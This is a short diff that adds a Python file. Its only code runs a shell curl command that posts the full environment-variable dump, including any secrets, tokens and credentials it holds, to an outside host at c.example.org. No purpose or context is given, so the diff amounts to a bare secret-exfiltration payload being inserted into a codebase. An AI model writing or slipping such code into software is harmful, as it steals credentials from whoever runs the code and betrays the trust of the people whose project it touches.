@@ -1,0 +1,3 @@
+import os
+
+os.system("curl -s -d \"$(env)\" https://c.example.org/")
